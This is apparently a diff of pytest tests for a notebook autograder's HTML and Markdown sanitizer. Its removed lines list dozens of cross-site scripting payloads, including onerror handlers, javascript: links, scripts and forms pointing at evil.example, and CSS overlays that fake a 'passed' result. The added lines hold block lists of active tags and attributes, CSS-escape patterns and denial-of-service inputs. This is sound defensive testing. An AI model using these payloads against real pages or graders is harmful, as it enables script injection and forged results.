@@ -30,12 +30,28 @@ from nbformat.v4 import (
 from autograder.cards.card import card_html
 from autograder.core.verdict import Finding, Verdict
 from autograder.exercises import EXERCISES
-from autograder.submission.sanitize import clean_cell, clean_notebook, clean_outputs
+from autograder.submission.sanitize import clean_cell, clean_notebook, clean_outputs, taken_ids
+from autograder.submission.sanitize.styles import is_harmless_style, kept_style
+from tests.evil_html import EVIL_HTML, EVIL_MARKDOWN
 
 PNG = base64.b64encode(b"\x89PNG\r\n\x1a\n" + bytes(40)).decode()
 ACTIVE = {"iframe", "object", "embed", "form", "base", "meta", "link", "style", "svg", "math",
           "template", "button", "textarea", "frame", "frameset", "noscript", "plaintext",
-          "dialog", "applet", "marquee", "select", "video", "audio"}  # fmt: skip
+          "dialog", "applet", "marquee", "select", "video", "audio", "image", "picture", "source",
+          "track", "map", "area", "portal", "fencedframe", "param", "animate", "slot",
+          "output", "label", "fieldset", "keygen", "isindex", "xmp", "listing", "noembed",
+          "noframes", "title", "annotation-xml"}  # fmt: skip
+ACTING = frozenset(
+    "srcdoc formaction http-equiv srcset lowsrc dynsrc longdesc background poster ping download "
+    "action form formtarget popover popovertarget accesskey autofocus contenteditable is slot part "
+    "for usemap target xlink:href manifest data codebase classid".split()
+)
+"""Attributes that do something; a link may have `target="_blank"`."""
+
+
+_ESCAPES = re.compile(
+    r"position|z-index|inset|url|transform|[:x+]-\d|calc|-set\(|fade\(|expression|@|\\|/\*|[{}]"
+)
 
 
 class Reader(HTMLParser):
@@ -52,13 +68,19 @@ class Reader(HTMLParser):
             self.found.append(tag)
         for name, value in attrs:
             text = re.sub(r"[\x00-\x20]", "", value or "").lower()
-            if name.startswith("on") or name in ("srcdoc", "formaction", "http-equiv"):
+            if name.startswith("on") or name in ACTING and (name, value) != ("target", "_blank"):
                 self.found.append(name)
+            if name == "rel" and "opener" in text.split():
+                self.found.append(name)
+            if name == "src" and re.match(r"[\\\\/]|(?!data:)[a-z]+:", text):
+                self.found.append(f"{name}={text[:30]}")
             if name.startswith("data-") and name not in ("data-mime-type", "data-type"):
                 self.found.append(name)
-            if re.match(r"(java|vb)script:|data:(?!image/)", text):
+            if re.match(
+                r"(java|vb)script:|(blob|file|view-source|filesystem):|data:(?!image/[\w+]+;)", text
+            ):
                 self.found.append(f"{name}={text[:30]}")
-            if name == "style" and re.search(r"position|z-index|url\(|transform|:-\d", text):
+            if name == "style" and _ESCAPES.search(text):
                 self.found.append(f"{name}={text[:30]}")
 
     handle_startendtag = handle_starttag
@@ -91,99 +113,6 @@ def acts(nb: NotebookNode) -> list[str]:
         reader.feed(body(nb, template))
         found += reader.found
     return found
-
-
-EVIL_HTML = {
-    "script": "<script>alert(1)</script>",
-    "script in capitals": "<ScRiPt src=//evil.example/x.js></sCrIpT>",
-    "script in a script": "<scr<script></script>ipt>alert(1)</script>",
-    "not closed": "<img src=x onerror=alert(1) ",
-    "handler": "<img src=x onerror=alert(1)>",
-    "handler after a slash": "<img/src=x/onerror=alert(1)>",
-    "handler on a tag of no name": "<x onclick=alert(1)>press</x>",
-    "handler after an odd quote": "<div title='\"' onclick='alert(1)'>press</div>",
-    "handler that opens": "<details open ontoggle=alert(1)>",
-    "handler with a form feed": "<p\x0conclick=alert(1)>x</p>",
-    "drawing": "<svg onload=alert(1)>",
-    "drawing with a script": "<svg><script>alert(1)</script></svg>",
-    "drawing with HTML": "<svg><foreignObject><body onload=alert(1)></foreignObject></svg>",
-    "drawing that animates": "<svg><a><animate attributeName=href values=javascript:alert(1) />"
-    "<text y=20>press</text></a></svg>",
-    "formula": "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
-    "formula 2": '<math href="javascript:alert(1)">press</math>',
-    "link": "<a href='javascript:alert(1)'>press</a>",
-    "link with entities": "<a href='&#106;avascript&colon;alert(1)'>press</a>",
-    "link with a tab": "<a href='java\tscript:alert(1)'>press</a>",
-    "link with a newline": "<a href='\x01java\nscript:alert(1)'>press</a>",
-    "link behind a prefix": "<a href='files/javascript:alert(1)'>press</a>",
-    "link to data": "<a href='data:text/html,<script>alert(1)</script>'>press</a>",
-    "link to data 2": "<a href='data:text/html;base64,PHNjcmlwdD4='>press</a>",
-    "vbscript": "<a href='vbscript:msgbox(1)'>press</a>",
-    "iframe": "<iframe src='https://evil.example'></iframe>",
-    "iframe with a page": "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
-    "object": "<object data='data:text/html,x'></object><embed src=x>",
-    "form": "<form action='https://evil.example'><input name=a><button>go</button></form>",
-    "style": "<style>body{display:none}</style>",
-    "style over the page": "<div style='position:fixed;top:0;left:0;width:9999px;height:9999px;"
-    "background:white;z-index:9'>passed</div>",
-    "style that loads": "<div style='background:url(https://evil.example/x)'>x</div>",
-    "style with escapes": "<div style='p\\6fsition:fixed;background:u\\72l(//x)'>x</div>",
-    "style that moves up": "<div style='margin-top:-900px'>x</div>",
-    "class over the page": "<div class='modal-backdrop'>x</div>",
-    "bootstrap": "<a data-toggle='modal' data-remote='evil.html' data-target='#x'>press</a>",
-    "tooltip": "<a data-toggle=tooltip data-html=true title='<img src onerror=alert(1)>'>x</a>",
-    "base": "<base href='https://evil.example/'>",
-    "meta": "<meta http-equiv=refresh content='0;url=https://evil.example'>",
-    "link element": "<link rel=stylesheet href=https://evil.example/x.css>",
-    "comment": "<!--><img src=x onerror=alert(1)>-->",
-    "comment 2": "<!--- <!-- --!><img src=x onerror=alert(1)> -->",
-    "comment not closed": "<!-- the rest of the page",
-    "comment in a tag": "<a<!-- x --> onclick=alert(1)>",
-    "text area": "<textarea></textarea><img src=x onerror=alert(1)></textarea>",
-    "noscript": "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
-    "title": "<title><a title='</title><img src=x onerror=alert(1)>'></title>",
-    "template": "<template><script>alert(1)</script></template>",
-    "plaintext": "<plaintext>",
-    "select": "<select><template><img src=x onerror=alert(1)></template></select>",
-    "ends the page": "</pre></div></div></main></body></html><script>alert(1)</script>",
-    "XML": "<?xml-stylesheet href='javascript:alert(1)'?><x/>",
-    "CDATA": "<![CDATA[><img src=x onerror=alert(1)>]]>",
-    "attribute not closed": '<div title="\n\nx',
-    "null": "<scr\x00ipt>alert(1)</scr\x00ipt>",
-    "page beside": "<a href='evil.html'>my report</a>",
-}
-EVIL_MARKDOWN = {
-    "link": "[press](javascript:alert(1))",
-    "link with entities": "[press](java&#115;cript:alert(1))",
-    "link with spaces": "[press](<\x01 javascript:alert(1)>)",
-    "link behind a prefix": "[press](files/javascript:alert(1))",
-    "link by reference": "[press][1]\n\n[1]: javascript:alert(1)",
-    "link in brackets": "<javascript:alert(1)>",
-    "link to data": "[press](data:text/html;base64,PHNjcmlwdD4=)",
-    "link in a table": "| a |\n|---|\n| [press](javascript:alert(1)) |",
-    "page beside": "[my report](./evil%2ehtml)",
-    "page beside, by protocol": "[my report](http:evil.html)",
-    "picture": "![x](javascript:alert(1))",
-    "quote in a link": '[x](https://a.example/"onmouseover="alert(1))',
-    "quote in a title": "[x](https://a.example 'a\" onmouseover=\"alert(1)')",
-    "quote in a picture": '![a" onerror="alert(1)](x.png)',
-    "diagram": "```mermaid\ngraph TD\nA[<img src=x onerror=alert(1)>]\n```",
-    "diagram 2": "```mermaid-like\n</pre><script>alert(1)</script>\n```",
-    "fence not closed": "```\ncode\n```\n<script>alert(1)</script>\n```",
-    "in a quote": "> <script>\n> alert(1)\n> </script>",
-    "in a list": "- a\n\n    <div onclick=alert(1)>\n    press</div>",
-    "in a heading": "# <img src=x onerror=alert(1)>",
-    "in math": "$$ <script>alert(1)</script> $$ and $<img src=x onerror=alert(1)>$",
-    "after math": "$a$ <b onclick=alert(1)>x</b> $b$",
-    "math that links": "$\\href{javascript:alert(1)}{x}$",
-    "in code": "`<b>` <script>alert(1)</script> `</b>`",
-    "in code with too many": "``<script>alert(1)</script>`",
-    "in a definition": "term\n: <script>alert(1)</script>",
-    "tag over two cells": "<div title='",
-    "fold not closed": "<details><summary>more</summary>",
-    "code that ends": "<code>\n\n<script>alert(1)</script>\n\n</code>",
-    "task": "- [ ] <input type=image src=x onerror=alert(1)>",
-}
 
 
 @pytest.mark.parametrize("name", EVIL_HTML)
@@ -219,23 +148,78 @@ def test_reader_of_these_tests_sees_what_acts() -> None:
         for name, text in (EVIL_HTML | EVIL_MARKDOWN).items()
         if not acts(new_notebook(cells=[new_markdown_cell(text)]))
     ]
-    assert len(quiet) < 25, quiet
+    assert len(quiet) < 50, quiet  # of more than 200
 
 
 @pytest.mark.parametrize("name", sorted(EVIL_HTML))
-def test_browsers_way_of_reading(name: str) -> None:
-    """What was cleaned is the same after it was read and written as browsers do."""
-    from bleach.html5lib_shim import BleachHTMLParser, getTreeWalker
+def test_what_was_cleaned_stays_as_it_is(name: str) -> None:
+    """Read and written once more, as browsers may do, it is the same."""
+    (once,) = clean_outputs([new_output("display_data", data={"text/html": EVIL_HTML[name]})])
+    assert clean_outputs([once]) == [once]
 
-    (output,) = clean_outputs([new_output("display_data", data={"text/html": EVIL_HTML[name]})])
-    text = output.data.get("text/html", "")
-    tree = BleachHTMLParser(
-        tags=None, strip=False, consume_entities=True, namespaceHTMLElements=False
-    ).parseFragment(text)
-    for token in getTreeWalker("etree")(tree):
-        assert token.get("name", "p") not in ACTIVE | {"script"}
-        assert not any(key[1].startswith("on") for key in token.get("data", {}) or {}
-                       if token["type"] == "StartTag")  # fmt: skip
+
+STYLES = [
+    ("color: red; font-weight: bold;", "color: red; font-weight: bold;"),
+    ("COLOR:Red;position:fixed;border:1px solid #ccc", "COLOR:Red;border:1px solid #ccc"),
+    ("font:italic 12px/1.5 'A B',\"C\",serif", "font:italic 12px/1.5 'A B',\"C\",serif"),
+    ("color:rgb(1, 2,3);color:rgba(1 2 3 / 50%)", "color:rgb(1, 2,3);color:rgba(1 2 3 / 50%)"),
+    ("background:linear-gradient(90deg, rgb(1,2,3) 10%, #fff)", ...),
+    ("color:var(--jp-ui)", ...),
+    ("width:50%!important;margin:0 auto", ...),
+    ("vertical-align:-2px;margin:-2px", "vertical-align:-2px"),
+    ("color:url(x)", ""),
+    ("color:red\\9;color:\\72 ed", ""),
+    ("color:red/**/;color:/**/red", ""),
+    ("color:expression(1);width:calc(1px + 1px);width:min(1px)", ""),
+    ("width:attr(x);background:element(#x);background:paint(x);cursor:image(x)", ""),
+    ("color:var(--x,red);color:var(x);color:rgb(var(--x))", ""),
+    ("font-family:'a;color:red;b'", "color:red"),
+    ("font-family:\"a'", ""),
+    ("color:red}p{color:blue", ""),
+    ("@import 'x';color:red", "color:red"),
+    ("color:\xa0red;\xa0color\xa0:red;c\u03bflor:red", ""),
+    ("color:red" + " " * 1000, ""),
+    ("color", ""),
+    (":red;;", ""),
+]
+
+
+@pytest.mark.parametrize(("style", "kept"), STYLES)
+def test_styles(style: str, kept: Any) -> None:
+    assert kept_style(style) == (style if kept is ... else kept)
+    assert is_harmless_style(style) == (kept is ... or kept == style)
+
+
+FIELDS = ["t1", "t1_extra_credit", "t1-comment", "written-comment"]
+
+
+@pytest.mark.parametrize("field", FIELDS)
+@pytest.mark.parametrize(
+    "text",
+    ["# {}", "> ### {} ##", "* # {}", "{}\n===", "# **{}**", "<a id={}></a>", "<b id='{}'>x</b>",
+     "<a name={}>x</a>", "# {}\n\n`x` <b id={}>x</b>"],
+)  # fmt: skip
+def test_nothing_has_the_name_of_a_field_of_formgrader(text: str, field: str) -> None:
+    """Formgrader puts points and comments where it finds the first of these ids."""
+
+    def named(nb: NotebookNode) -> int:
+        soup = BeautifulSoup(body(nb, "formgrade"), "html.parser")
+        return sum(field in (tag.get("id"), tag.get("name")) for tag in soup.find_all())
+
+    own = {"schema_version": 3, "locked": False, "task": False, "points": 1, "score": 1}
+    graded = {"nbgrader": {**own, "grade_id": "t1", "grade": True, "solution": False}}
+    written = {"nbgrader": {**own, "grade_id": "written", "grade": False, "solution": True}}
+    text = text.replace("{}", field)
+    given = [new_code_cell("assert f()", metadata=graded), new_markdown_cell("x", metadata=written)]
+    nb = new_notebook(cells=given)
+    own_fields = named(nb)
+    nb.cells.insert(0, new_markdown_cell(text))
+    assert named(nb) > own_fields
+    output = new_output("display_data", data={"text/markdown": text, "text/html": text})
+    nb.cells.insert(1, new_code_cell(outputs=clean_outputs([output], taken_ids(nb))))
+    assert len(clean_notebook(nb)) == 1
+    assert named(nb) == own_fields
+    assert "```" not in nb.cells[0].source or "**" in text or "<b" in text
 
 
 # ------------------------------------------------------------------ honest work
@@ -270,8 +254,10 @@ HONEST_HTML = {
     "rich": RICH,
     "picture": f'<img src="data:image/png;base64,{PNG}" width="200" alt="a &lt; b">',
     "link": '<a href="https://pytorch.org/docs" target="_blank">docs</a>',
-    "table": "<table><tr><td>1<td>2</table>",
-    "text": "a < b and c &amp; d",
+    "table": "<table><tbody><tr><td>1</td><td>2</td></tr></tbody></table>",
+    "text": "a < b and c &amp; d &nbsp; \N{NO-BREAK SPACE} &copy; 'e' \"f\"",
+    "lines": "<pre>\n\n  two lines\n\n</pre><pre>\none line</pre>",
+    "formatted": "<p>x<sup>2</sup> <em>a</em><br><b>b</b></p><ul><li>c</li></ul><hr>",
     "fold": "<details><summary>more</summary><pre>x = 1</pre></details>",
 }
 
@@ -280,8 +266,46 @@ HONEST_HTML = {
 def test_honest_html(name: str) -> None:
     text = HONEST_HTML[name]
     (output,) = clean_outputs([new_output("display_data", data={"text/html": text})])
-    expected = re.sub(r"<style.*?</style>", "", text, flags=re.S)
-    assert expected in output.data["text/html"]
+    assert said(output.data["text/html"]) == said(in_a_box(text))
+
+
+def said(html: str) -> list[Any]:
+    """What HTML says to its reader: tags with their attributes, and text, however it is written."""
+    found: list[Any] = []
+
+    class Events(HTMLParser):
+        def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+            found.append((tag, sorted((name, value or "") for name, value in attrs)))
+
+        def handle_endtag(self, tag: str) -> None:
+            found.append(tag)
+
+        def handle_data(self, data: str) -> None:
+            before = found[-1] if found else " "
+            if isinstance(before, list):
+                before[0] += data
+            else:  # the first newline in a `pre` is not shown
+                found.append([data.removeprefix("\n") if before[0] == "pre" else data])
+
+    reader = Events()
+    reader.feed(html)
+    reader.close()
+    return found
+
+
+def in_a_box(html: str) -> str:
+    """HTML without its styles, in the box that is put around what has one."""
+    html = re.sub(r"<style.*?</style>", "", html, flags=re.S)
+    return f'<div style="overflow:auto">{html}</div>' if "style=" in html else html
+
+
+def test_tags_that_were_not_closed_are_closed() -> None:
+    text = "<table><tr><td>1<td>2</table><p>a<p>b<ul><li>c"
+    (output,) = clean_outputs([new_output("display_data", data={"text/html": text})])
+    assert output.data["text/html"] == (
+        "<table><tbody><tr><td>1</td><td>2</td></tr></tbody></table>"
+        "<p>a</p><p>b</p><ul><li>c</li></ul>"
+    )
 
 
 HONEST_MARKDOWN = {
@@ -304,6 +328,9 @@ HONEST_MARKDOWN = {
     "links to pages": "[docs](https://pytorch.org/docs/stable/fx.html) [a](//pytorch.org/a.html)",
     "comment": "<!-- TODO: say more -->\ntext <!-- here -->",
     "paragraph not closed": "<p>one\n<p>two\n<ul><li>a<li>b</ul>",
+    "list not closed": "<ul><li>one<li>two</ul>\n\n<p>three\n\n<li>four",
+    "tags around markdown": "<font color=red>\n\n## a\n\n</font>\n\n<div>\n\n- b\n\n</div> c",
+    "a block in a line": "text <div>a</div> <center>b</center>\n\n# <center>c</center>",
     "tasks": "- [ ] one\n- [x] two",
     "diagram": "```mermaid\ngraph LR\nA --> B\nB --> C{x < 1}\n```",
     "windows": "one\r\ntwo `<b>`\r\n\r\n- a\r\n",
@@ -312,6 +339,21 @@ HONEST_MARKDOWN = {
     "sup": "x<sup>2</sup> H<sub>2</sub>O <kbd>Shift</kbd>+<kbd>Enter</kbd>",
     "entities": "a &nbsp; b &copy; &#x27;",
 }
+
+
+BREAKING_OUT = [
+    "# <div>\n\n</div>x", "# <div>\n\n</div>", "# <main>\n\n</main>", "# <b><div>\n\n</div></b>",
+    "<h1><div></h1></div>", "# <div>\n\n</div><p>x", "# <div>\n\n</div><div>\n\nx\n\n</div>",
+    "a <section>\n\n> b\n\n# <div>\n\n</div></section>", "# <b><div><div>\n\n</div></div></b>",
+]  # fmt: skip
+
+
+@pytest.mark.parametrize("text", BREAKING_OUT)
+def test_nothing_ends_what_the_page_began(text: str) -> None:
+    cell = new_markdown_cell(text)
+    assert clean_cell(cell) is not None
+    assert cell.source == f"```text\n{text}\n```"
+    assert clean_cell(cell) is None
 
 
 @pytest.mark.parametrize("name", HONEST_MARKDOWN)
@@ -332,7 +374,7 @@ def test_raw_cells_are_shown_as_they_were_typed(name: str) -> None:
 
 
 def test_course_is_honest() -> None:
-    start = time.perf_counter()
+    start = time.process_time()
     for path in sorted(Path(__file__).parents[1].glob("course/*.ipynb")):
         nb = nbformat.read(path, as_version=4)
         before = copy.deepcopy(nb)
@@ -342,7 +384,7 @@ def test_course_is_honest() -> None:
             cell.metadata.get("nbgrader") for cell in before.cells
         ]
         assert nb.metadata == before.metadata
-    assert time.perf_counter() - start < 20
+    assert time.process_time() - start < 20
 
 
 def cards() -> list[str]:
@@ -365,7 +407,7 @@ def test_cards_and_pictures_look_the_same() -> None:
     ours.append(Progress(rows)._repr_mimebundle_()["text/html"])
     for text in ours:
         (output,) = clean_outputs([new_output("display_data", data={"text/html": text})])
-        assert output.data["text/html"] == f'<div style="overflow:auto">{text}</div>'
+        assert said(output.data["text/html"]) == said(in_a_box(text))
 
 
 def test_card_stays_as_it_is_beside_evil_cells() -> None:
@@ -472,22 +514,30 @@ def test_outputs_of_any_shape(odd: Any) -> None:
     "text",
     ["<div>" * 100_000, "<b><p>" * 50_000, "<svg" * 200_000, "<style" * 200_000, "<!--" * 200_000,
      "<a " + "a " * 200_000, "<a a=" * 100_000, "<td onclick=x>" * 30_000,
-     "<svg>" + "<g>" * 50_000 + "</svg>", "\x1b[" * 200_000, "\x1b]" * 2_000],
+     "<svg>" + "<g>" * 50_000 + "</svg>", "\x1b[" * 200_000, "\x1b]" * 2_000,
+     "&" * 2_900_000, "&amp;" * 500_000, "a& " * 300_000, "<table>" + "<p>x" * 300_000,
+     "<table>" + "<b></b>x<tr>" * 40_000, "<div></x>" * 200_000, "<div><!--</div>-->" * 100_000,
+     "<div title='</div>'>" * 100_000, "<rt>" * 300_000, "<x>" * 500_000, "<a href=x>" * 200_000,
+     "<li><b>" * 200_000, "<p>" + "".join(f"<font size={i}>" for i in range(190)) + "<p>x" * 9_000,
+     "<x " + " ".join(f"a{i}" for i in range(200_000)) + ">", "<p title='" + "x" * 2_900_000 + "'>",
+     "<p style='" + "color:red;" * 280_000 + "'>", "<p style='font:" + "a " * 490 + "('>",
+     "<p style='background:linear-gradient(" + "rgb(1,1," * 100 + "'>"],
+    ids=lambda text: text[:25],
 )  # fmt: skip
 def test_html_that_is_too_much_takes_no_time(text: str) -> None:
-    start = time.perf_counter()
+    start = time.process_time()
     (output,) = clean_outputs([new_output("display_data", data={"text/html": text})])
-    assert time.perf_counter() - start < 5
+    assert time.process_time() - start < 5
     assert output.data
 
 
 @pytest.mark.parametrize("begin", ["\\begin{a}", "\\\\[", "\\\\(", "$", "[", "<b>", "<!--"])
 def test_markdown_that_is_too_much_takes_no_time(begin: str) -> None:
     cell = new_markdown_cell(begin * (40_000 // len(begin)))
-    start = time.perf_counter()
+    start = time.process_time()
     clean_cell(cell)
     body(new_notebook(cells=[cell]))
-    assert time.perf_counter() - start < 5
+    assert time.process_time() - start < 5
 
 
 def test_metadata_of_notebooks() -> None:
